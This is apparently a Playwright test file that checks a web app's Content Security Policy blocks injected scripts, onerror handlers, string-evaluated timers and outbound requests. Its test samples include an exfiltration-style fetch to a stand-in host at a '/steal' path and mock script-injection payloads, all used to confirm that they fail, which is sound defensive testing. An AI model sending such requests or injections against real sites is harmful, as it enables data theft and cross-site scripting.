"""Limits of a page in a real browser: it talks to its own server and to no other.

The `watch` fixture fails every browser test on a call to a foreign server; here the page is made to
try.
"""

from __future__ import annotations

from playwright.sync_api import Page, expect

from tests.browser.watch import Watch

START = "Drop a trade log to begin"


def test_injected_scripts_do_not_run(live: str, page: Page, watch: Watch) -> None:
    watch.allow("Content Security Policy")
    page.goto(live)
    expect(page.get_by_role("heading", name=START)).to_be_visible()
    page.evaluate(
        """() => new Promise((fetched) => {
          const script = document.createElement("script");
          script.textContent = "window.ran = true";
          document.body.append(script);
          const image = document.createElement("img");
          image.setAttribute("onerror", "window.ran = true");
          image.addEventListener("error", fetched);
          image.addEventListener("load", fetched);
          image.src = "/no-such-picture";
          document.body.append(image);
        })"""
    )
    assert page.evaluate("() => window.ran === undefined")


def test_text_is_never_run_as_code(live: str, page: Page, watch: Watch) -> None:
    watch.allow("Content Security Policy")
    page.goto(live)
    page.evaluate(
        """() => new Promise((later) => {
          setTimeout("window.ran = true", 0);
          setTimeout(later, 1);
        })"""
    )
    assert page.evaluate("() => window.ran === undefined")


def test_nothing_leaves_for_a_foreign_server(live: str, page: Page, watch: Watch) -> None:
    watch.allow("Content Security Policy", "call to a foreign server", "Failed to fetch")
    page.goto(live)
    outcome = page.evaluate(
        "() => fetch('http://192.0.2.1/steal', {mode: 'no-cors'})"
        ".then(() => 'sent', error => error.name)"
    )
    assert outcome == "TypeError"


def test_localhost_becomes_the_one_origin(live: str, page: Page) -> None:
    page.goto(live.replace("127.0.0.1", "localhost") + "/?x=1")
    expect(page).to_have_url(live + "/?x=1")
